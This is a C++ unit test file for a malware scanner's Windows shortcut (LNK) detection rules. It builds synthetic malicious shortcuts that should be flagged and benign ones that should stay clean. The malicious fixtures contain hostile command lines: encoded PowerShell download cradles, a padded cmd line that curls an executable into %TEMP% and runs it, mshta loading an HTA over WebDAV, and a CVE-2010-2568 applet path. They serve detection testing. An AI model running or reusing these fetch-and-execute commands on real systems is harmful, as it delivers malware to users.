// The LNK rule score on synthesized shortcuts: malicious shapes (encoded PowerShell, padded arguments, LOLBins
// behind document icons, CVE-2010-2568 Control Panel items) are found with their IOCs, and shortcuts shaped like
// the ones Windows and installers create stay clean (the false-positive set reported in docs/MEASUREMENTS.md).
#include <gtest/gtest.h>

#include <string>
#include <vector>

#include "engine/scanner.hpp"
#include "formats/lnk/lnk.hpp"
#include "formats/lnk/rules.hpp"
#include "support/lnk_builder.hpp"

namespace {

using mamori::ByteView;
using namespace mamori::test;
namespace engine = mamori::engine;

const std::string kMyComputer = "{20D04FE0-3AEA-1069-A2D8-08002B30309D}";
const std::string kControlPanel = "{21EC2020-3AEA-1069-A2DD-08002B30309D}";

engine::ScanResult scan(const LnkSpec& s) {
  engine::Scanner sc(std::optional<mamori::model::Model>{}, engine::Options{});
  const auto b = build_lnk(s);
  return sc.scan_bytes(ByteView(b.data(), b.size()), "t.lnk");
}

bool has_rule(const engine::ScanResult& r, const std::string& rule) {
  for (const auto& x : r.reasons)
    if (x.feature == rule) return true;
  return false;
}

bool has_ioc(const engine::ScanResult& r, const std::string& type, const std::string& value) {
  for (const auto& i : r.iocs)
    if (i.type == type && i.value == value) return true;
  return false;
}

std::string ctx(const engine::ScanResult& r, const std::string& key) {
  for (const auto& [k, v] : r.context)
    if (k == key) return v;
  return {};
}

std::vector<Blob> path_items(const std::vector<std::string>& parts) {
  std::vector<Blob> items = {root_item(kMyComputer), volume_item(parts[0])};
  for (std::size_t i = 1; i < parts.size(); ++i) items.push_back(file_item(parts[i], i + 1 < parts.size()));
  return items;
}

LnkSpec target(const std::string& path, const std::vector<std::string>& parts) {
  LnkSpec s;
  s.idlist = path_items(parts);
  s.local_base_path = path;
  s.machine_id = "desktop-01";
  return s;
}

const std::string kPowerShell = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
const std::vector<std::string> kPowerShellParts = {"C:\\", "Windows", "System32", "WindowsPowerShell", "v1.0", "powershell.exe"};
const std::string kCmd = "C:\\Windows\\System32\\cmd.exe";
const std::vector<std::string> kCmdParts = {"C:\\", "Windows", "System32", "cmd.exe"};

TEST(LnkRules, EncodedPowerShellDownloadCradle) {
  const std::string script = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/stage2.ps1')";
  LnkSpec s = target(kPowerShell, kPowerShellParts);
  s.arguments = "-NoP -W Hidden -EncodedCommand " + base64(utf16(script));
  s.show_command = 7;
  s.icon_location = "%ProgramFiles(x86)%\\Microsoft\\Edge\\Application\\msedge.exe";
  auto r = scan(s);
  EXPECT_EQ(r.verdict, engine::Verdict::malicious);
  EXPECT_EQ(r.signature, "Mamori.LNK.Malicious");
  for (const char* rule : {"lnk.launcher_with_args", "lnk.encoded_command", "lnk.download_cradle", "lnk.hidden_window",
                           "lnk.obfuscation", "lnk.icon_spoof"})
    EXPECT_TRUE(has_rule(r, rule)) << rule;
  EXPECT_EQ(ctx(r, "lnk.decoded_command"), script);
  EXPECT_EQ(ctx(r, "lnk.encoded_command").rfind("+45: ", 0), 0u);
  EXPECT_TRUE(has_ioc(r, "url", "http://198.51.100.7/stage2.ps1"));
  EXPECT_TRUE(has_ioc(r, "ip", "198.51.100.7"));
  EXPECT_TRUE(has_ioc(r, "path", kPowerShell));
  EXPECT_EQ(ctx(r, "lnk.machine_id"), "desktop-01");
}

// A payload inside FromBase64String (not -EncodedCommand) is peeled by the shared PowerShell decoder, and the rules
// and the IOC list see what it hides.
TEST(LnkRules, NestedBase64LayerIsSearched) {
  const std::string inner = "(New-Object Net.WebClient).DownloadFile('http://203.0.113.44/p.exe','p.exe')";
  LnkSpec s = target(kPowerShell, kPowerShellParts);
  s.arguments = "-c \"iex([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('" + base64(utf16(inner)) + "')))\"";
  auto r = scan(s);
  EXPECT_TRUE(has_rule(r, "lnk.download_cradle"));
  EXPECT_TRUE(has_ioc(r, "url", "http://203.0.113.44/p.exe"));
  EXPECT_TRUE(r.found());
}

TEST(LnkRules, ShortEncodedFlagsAreRecognised) {
  for (const char* flag : {"-e", "-ec", "-enc", "/enc", "-EncodedC", "-ENCODEDCOMMAND"}) {
    LnkSpec s = target(kPowerShell, kPowerShellParts);
    s.arguments = std::string(flag) + " " + base64(utf16("Start-Sleep 1"));
    const auto b = build_lnk(s);
    auto l = mamori::lnk::parse(ByteView(b.data(), b.size()));
    ASSERT_TRUE(l.ok());
    auto a = mamori::lnk::assess(*l);
    ASSERT_EQ(a.decoded.size(), 1u) << flag;
    EXPECT_EQ(a.decoded[0], "Start-Sleep 1");
  }
  // Not base64 of UTF-16: not decoded, and -e alone does not count.
  LnkSpec s = target(kPowerShell, kPowerShellParts);
  s.arguments = "-e " + base64(Blob{'a', 'b', 'c', 'd', 'e', 'f'});
  const auto b = build_lnk(s);
  auto l = mamori::lnk::parse(ByteView(b.data(), b.size()));
  EXPECT_TRUE(mamori::lnk::assess(*l).decoded.empty());
}

TEST(LnkRules, PaddedArgumentsAndDocumentIcon) {
  LnkSpec s = target(kCmd, kCmdParts);
  s.arguments = std::string(260, ' ') + "/c curl -s -o %TEMP%\\u.exe https://files.example-cdn.net/u.exe && %TEMP%\\u.exe";
  s.icon_location = "C:\\Users\\Public\\invoice.pdf";
  s.show_command = 7;
  auto r = scan(s);
  EXPECT_EQ(r.verdict, engine::Verdict::malicious);
  EXPECT_TRUE(has_rule(r, "lnk.padded_arguments"));
  EXPECT_TRUE(has_rule(r, "lnk.icon_spoof"));
  EXPECT_TRUE(has_rule(r, "lnk.download_cradle"));
  EXPECT_TRUE(has_ioc(r, "url", "https://files.example-cdn.net/u.exe"));
  EXPECT_TRUE(has_ioc(r, "domain", "files.example-cdn.net"));
  EXPECT_TRUE(has_ioc(r, "path", "%TEMP%\\u.exe"));
}

TEST(LnkRules, MshtaFromWebDavWithEnvironmentTarget) {
  LnkSpec s;
  s.env_target = "%windir%\\System32\\mshta.exe";
  s.arguments = "\\\\203.0.113.9@SSL\\DavWWWRoot\\x\\doc.hta";
  s.icon_location = "C:\\Windows\\System32\\shell32.dll";
  s.icon_index = 1;
  auto r = scan(s);
  EXPECT_TRUE(r.found());
  EXPECT_TRUE(has_rule(r, "lnk.lolbin_abuse"));
  EXPECT_TRUE(has_ioc(r, "ip", "203.0.113.9@SSL") || has_ioc(r, "ip", "203.0.113.9") ||
              has_ioc(r, "path", "\\\\203.0.113.9@SSL\\DavWWWRoot\\x\\doc.hta"));
}

TEST(LnkRules, ControlPanelAppletOutsideSystemFolderIsCve20102568) {
  LnkSpec s;
  Blob applet(0x1E, 0);
  const std::string path = "\\\\.\\STORAGE#Volume#_??_USBSTOR#Disk\\~WTR0001.tmp";
  const auto w = utf16(path);
  applet.insert(applet.end(), w.begin(), w.end());
  applet.resize(applet.size() + 32, 0);
  s.idlist = {root_item(kMyComputer), guid_item(0x2E, kControlPanel), raw_item(0x00, applet)};
  auto r = scan(s);
  EXPECT_EQ(r.verdict, engine::Verdict::malicious);
  EXPECT_EQ(r.signature, "Mamori.LNK.CVE-2010-2568");

  // An ANSI applet path on a removable drive.
  Blob ansi(11, 0);
  for (char c : std::string("e:\\thumbs.bmp")) ansi.push_back(static_cast<std::uint8_t>(c));
  ansi.resize(ansi.size() + 16, 0);
  s.idlist = {root_item(kMyComputer), guid_item(0x2E, kControlPanel), raw_item(0x00, ansi)};
  EXPECT_EQ(scan(s).signature, "Mamori.LNK.CVE-2010-2568");
}

TEST(LnkRules, ScriptHostRunningDroppedScriptIsSuspicious) {
  LnkSpec s = target("C:\\Windows\\System32\\wscript.exe", {"C:\\", "Windows", "System32", "wscript.exe"});
  s.arguments = "%APPDATA%\\Updater\\check.vbs //B";
  auto r = scan(s);
  EXPECT_EQ(r.verdict, engine::Verdict::suspicious);
  EXPECT_TRUE(has_rule(r, "lnk.payload_in_user_folder"));
}

// Shortcuts shaped like the ones Windows, Office, browsers and installers create. Every one must stay clean.
TEST(LnkRules, BenignShortcutsStayClean) {
  std::vector<std::pair<std::string, LnkSpec>> cases;
  {
    LnkSpec s = target("C:\\Program Files\\Contoso\\Editor\\editor.exe", {"C:\\", "Program Files", "Contoso", "Editor", "editor.exe"});
    s.working_dir = "C:\\Program Files\\Contoso\\Editor";
    s.icon_location = "C:\\Program Files\\Contoso\\Editor\\editor.exe";
    s.console_block = false;
    cases.push_back({"start menu app", s});
  }
  {
    LnkSpec s = target("C:\\Users\\ana\\Documents\\Quarterly report.docx", {"C:\\", "Users", "ana", "Documents", "Quarterly report.docx"});
    s.relative_path = "..\\..\\..\\Users\\ana\\Documents\\Quarterly report.docx";
    cases.push_back({"recent document", s});
  }
  {
    LnkSpec s = target("C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
                       {"C:\\", "Program Files (x86)", "Microsoft", "Edge", "Application", "msedge.exe"});
    s.arguments = "--profile-directory=Default https://intranet.example.org/timesheets";
    s.icon_location = "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe";
    cases.push_back({"web page via browser", s});
  }
  {
    LnkSpec s = target("C:\\Program Files\\Google\\Chrome\\Application\\chrome_proxy.exe",
                       {"C:\\", "Program Files", "Google", "Chrome", "Application", "chrome_proxy.exe"});
    s.arguments = "--profile-directory=Default --app-id=abcdefghijklmnopabcdefghijklmnop";
    s.icon_location = "C:\\Users\\ana\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Web Applications\\app.ico";
    cases.push_back({"browser app", s});
  }
  {
    LnkSpec s = target(kCmd, kCmdParts);
    s.arguments = "/k \"C:\\Program Files\\Microsoft Visual Studio\\2022\\Community\\Common7\\Tools\\VsDevCmd.bat\"";
    s.working_dir = "C:\\Program Files\\Microsoft Visual Studio\\2022\\";
    s.console_block = true;
    cases.push_back({"developer command prompt", s});
  }
  {
    LnkSpec s;
    s.env_target = "%SystemRoot%\\system32\\WindowsPowerShell\\v1.0\\powershell.exe";
    s.working_dir = "%HOMEDRIVE%%HOMEPATH%";
    s.icon_env_target = "%SystemRoot%\\system32\\WindowsPowerShell\\v1.0\\powershell.exe";
    s.console_block = true;
    cases.push_back({"Windows PowerShell", s});
  }
  {
    LnkSpec s = target("C:\\Windows\\System32\\rundll32.exe", {"C:\\", "Windows", "System32", "rundll32.exe"});
    s.arguments = "shell32.dll,Control_RunDLL desk.cpl,,0";
    s.icon_location = "%SystemRoot%\\system32\\desk.cpl";
    cases.push_back({"control panel applet via rundll32", s});
  }
  {
    LnkSpec s = target("C:\\Windows\\System32\\msiexec.exe", {"C:\\", "Windows", "System32", "msiexec.exe"});
    s.arguments = "/x {6F1A2B3C-4D5E-6F70-8192-A3B4C5D6E7F8}";
    s.icon_location = "C:\\Windows\\Installer\\{6F1A2B3C-4D5E-6F70-8192-A3B4C5D6E7F8}\\app.ico";
    cases.push_back({"uninstall entry", s});
  }
  {
    LnkSpec s = target("C:\\Users\\ana\\AppData\\Local\\Chatty\\Update.exe", {"C:\\", "Users", "ana", "AppData", "Local", "Chatty", "Update.exe"});
    s.arguments = "--processStart \"Chatty.exe\"";
    s.icon_location = "C:\\Users\\ana\\AppData\\Local\\Chatty\\app.ico";
    cases.push_back({"per-user installed app", s});
  }
  {
    LnkSpec s;
    Blob applet(11, 0);
    for (char c : std::string("C:\\WINDOWS\\system32\\desk.cpl")) applet.push_back(static_cast<std::uint8_t>(c));
    applet.resize(applet.size() + 16, 0);
    s.idlist = {root_item(kMyComputer), guid_item(0x2E, kControlPanel), raw_item(0x00, applet)};
    cases.push_back({"XP control panel item", s});
  }
  {
    LnkSpec s = target("\\\\fileserver\\projects\\Plans", {"C:\\", "Plans"});
    s.local_base_path.reset();
    s.net_name = "\\\\fileserver\\projects";
    cases.push_back({"network folder", s});
  }
  {
    LnkSpec s = target("C:\\Windows\\explorer.exe", {"C:\\", "Windows", "explorer.exe"});
    s.arguments = "shell:::{21EC2020-3AEA-1069-A2DD-08002B30309D}";
    cases.push_back({"explorer shell folder", s});
  }
  int clean = 0;
  for (const auto& [what, spec] : cases) {
    auto r = scan(spec);
    EXPECT_EQ(r.verdict, engine::Verdict::clean) << what << " score " << r.score.value_or(-1);
    clean += r.verdict == engine::Verdict::clean;
  }
  RecordProperty("benign_clean", clean);
  RecordProperty("benign_total", static_cast<int>(cases.size()));
}

}  // namespace
